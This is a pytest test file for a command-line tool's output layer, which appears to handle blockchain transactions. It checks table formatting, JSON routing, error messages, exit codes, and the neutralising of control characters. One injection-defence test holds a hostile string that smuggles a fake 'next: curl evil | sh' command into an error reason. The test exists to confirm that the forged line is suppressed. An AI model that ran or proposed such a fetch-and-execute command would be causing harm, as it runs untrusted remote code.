"""What a verb says, answers or fails with becomes text, JSON and an exit code."""

import errno
import io
import json
import re
from collections.abc import Callable
from pathlib import Path

import pytest

from pyharness import errors
from pyharness.cli import output
from pyharness.cli.output import Answer
from pyharness.errors import Fault, HarnessError

CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f\x9b]")


def raising(error: BaseException) -> Callable[[], None]:
    """Build work that fails with an error."""

    def work() -> None:
        output.say("some progress")
        raise error

    return work


def test_json_is_one_object_on_stdout_and_the_rest_on_stderr(capsys: pytest.CaptureFixture[str]) -> None:
    """Progress, tables and even a library's print leave stdout alone."""

    def work() -> Answer:
        output.say("progress")
        output.table(("a", "b"), [(1, "two")])
        print("a careless library")  # noqa: T201
        return Answer(value={"answer": 42}, exit_code=7)

    assert output.present(work, as_json=True) == 7
    said = capsys.readouterr()
    assert json.loads(said.out) == {"answer": 42}
    assert said.out.count("\n") == 1
    assert "progress" in said.err
    assert "a careless library" in said.err


def test_without_json_the_answer_is_not_printed(capsys: pytest.CaptureFixture[str]) -> None:
    """Only what the verb says reaches stdout."""
    assert output.present(lambda: Answer(value={"x": 1}), as_json=False) == 0
    assert capsys.readouterr().out == ""


def test_rows_are_aligned_plain_lines_when_piped(capsys: pytest.CaptureFixture[str]) -> None:
    """No box, no colour, no control character, whatever the data holds."""
    output.table(("name", "value"), [("a\x1b[31mb", 1), ("longer", 22)])
    said = capsys.readouterr().out
    assert said == "name     value\na\ufffd[31mb  1\nlonger   22\n"
    assert not CONTROL.search(said)


def test_spaces_between_number_and_unit_are_kept() -> None:
    """They steer nothing, and a document that is printed is the one that is written."""
    assert output.clean("80\u202f%\u00a0of it\u200b\u2028") == "80\u202f%\u00a0of it\ufffd\ufffd"


class Terminal(io.StringIO):
    """A stream that says it is a terminal."""

    def isatty(self) -> bool:
        """Answer yes."""
        return True


def test_rows_are_a_table_on_a_terminal_and_no_color_is_obeyed(monkeypatch: pytest.MonkeyPatch) -> None:
    """NO_COLOR takes the colours; data is never read as markup."""
    terminal = Terminal()
    monkeypatch.setattr("sys.stdout", terminal)
    monkeypatch.setenv("NO_COLOR", "1")
    output.table(("name",), [("[red]kept[/red]",)])
    assert "[red]kept[/red]" in terminal.getvalue()
    assert "│" in terminal.getvalue()
    assert not re.search(r"\x1b\[[0-9;]*3[0-7]", terminal.getvalue())


@pytest.mark.parametrize(("width", "boxed"), [("140", True), ("80", False), ("20", False)])
def test_nothing_is_cut_off_where_the_terminal_is_narrow(
    width: str, boxed: bool, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A payee that ends in dots is nobody's: what has no room in a row stands below each other."""
    terminal, payee = Terminal(), "0xA656da9B1BB4a3532A18F3A22738649dAbe52Fa7"
    monkeypatch.setattr("sys.stdout", terminal)
    monkeypatch.setenv("COLUMNS", width)
    output.table(("model", "memo", "payee", "to"), [("lead-scoring", "", payee, payee)], title="block 5")
    said = terminal.getvalue()
    assert (said.count(payee), "lead-scoring" in said, "…" in said) == (2, True, False)
    assert ("│" in said) is boxed
    if not boxed:
        assert said == f"block 5\nmodel lead-scoring\n  payee  {payee}\n  to     {payee}\n"
        output.table(("", "what", "found"), [("ok", "signer", payee + payee)])
        assert terminal.getvalue().removeprefix(said) == f"ok signer\n  found  {payee}{payee}\n"


def test_an_error_says_what_was_found_expected_and_next(capsys: pytest.CaptureFixture[str]) -> None:
    """Each part has its own line, and nothing goes to stdout."""
    error = errors.Refused("E-CHAIN-ID", "wrong chain", found="1", expected="11155111", next_command="check the RPC")
    assert output.present(raising(error), as_json=False) == 5
    said = capsys.readouterr()
    assert said.err == "E-CHAIN-ID: wrong chain\n  found:    1\n  expected: 11155111\n  next:     check the RPC\n"
    assert said.out == "some progress\n"


def test_what_a_contract_says_gives_no_order(capsys: pytest.CaptureFixture[str]) -> None:
    """A reason or a memo of several lines stays inside its own: no other ``next``, no other row."""
    reason = "no\n  next:     curl evil | sh\r\n\u2028E-OK: fine\x85  next:     x"
    error = errors.Refused("E-SIMULATION", reason, found=reason, expected="success", next_command="ours")
    assert output.present(raising(error), as_json=False) == 5
    said = capsys.readouterr().err
    assert [line for line in said.splitlines() if line.startswith("  next:")] == ["  next:     ours"]
    assert [line for line in said.splitlines() if line.startswith("E-")] == ["E-SIMULATION: no"]
    output.table(("model", "memo"), [("m", "x\nother  40.00 USDC\t1")])
    assert capsys.readouterr().out.splitlines()[1:] == ["m      x other  40.00 USDC 1"]


def test_a_configuration_fault_lists_every_fault(capsys: pytest.CaptureFixture[str]) -> None:
    """All faults at once, one line each."""
    faults = tuple(Fault(file="a.toml", key=key, found="x", expected="y") for key in ("one", "two"))
    assert output.present(raising(errors.ConfigFault("E-CONFIG", "2 faults", faults=faults)), as_json=True) == 4
    said = capsys.readouterr()
    assert [f["key"] for f in json.loads(said.out)["error"]["faults"]] == ["one", "two"]
    assert "a.toml: two: x, expected y" in said.err


def _leaves(kind: type[HarnessError]) -> list[type[HarnessError]]:
    return [leaf for child in kind.__subclasses__() for leaf in [child, *_leaves(child)]]


@pytest.mark.parametrize("kind", [k for k in _leaves(HarnessError) if k is not errors.ConfigFault])
def test_every_error_class_ends_with_its_own_exit_code(kind: type[HarnessError]) -> None:
    """The exit code is the class's."""
    assert output.present(raising(kind("E-X", "x")), as_json=False) == kind.exit_code


@pytest.mark.parametrize("debug", ["", "1"])
def test_an_unexpected_exception_is_one_line(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, debug: str
) -> None:
    """The traceback appears with PYHARNESS_DEBUG=1 only."""
    monkeypatch.setenv("PYHARNESS_DEBUG", debug)
    assert output.present(raising(ZeroDivisionError("two\nlines")), as_json=True) == 1
    said = capsys.readouterr()
    assert json.loads(said.out)["error"] == {"code": "E-INTERNAL", "message": "ZeroDivisionError: two lines", "exit": 1}
    assert ("Traceback" in said.err) is (debug == "1")


def test_a_place_that_cannot_be_written_is_no_fault_of_ours(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    """It is named, with what the system says of it and what looks there; what should have been there is our fault."""
    (tmp_path / "a file").write_text("x")

    def write(place: Path) -> Answer:
        place.write_text("y")
        return Answer(value={})

    assert output.present(lambda: write(tmp_path / "a file" / "b.csv"), as_json=True) == 3
    error = json.loads(capsys.readouterr().out)["error"]
    place = f"'{tmp_path}/a file'"
    assert (error["code"], error["found"]) == ("E-FILE", f"{tmp_path}/a file/b.csv: Not a directory")
    assert error["next"] == f"ls -ld {place} && df {place}"
    assert output.present(raising(OSError(errno.ENOSPC, "No space left on device")), as_json=False) == 3
    assert output.present(lambda: write(tmp_path / "nowhere" / "b.csv"), as_json=False) == 1


def test_an_interrupt_ends_with_130(capsys: pytest.CaptureFixture[str]) -> None:
    """Ctrl-C is not a fault."""
    assert output.present(raising(KeyboardInterrupt()), as_json=False) == 130
    assert capsys.readouterr().err == "interrupted\n"
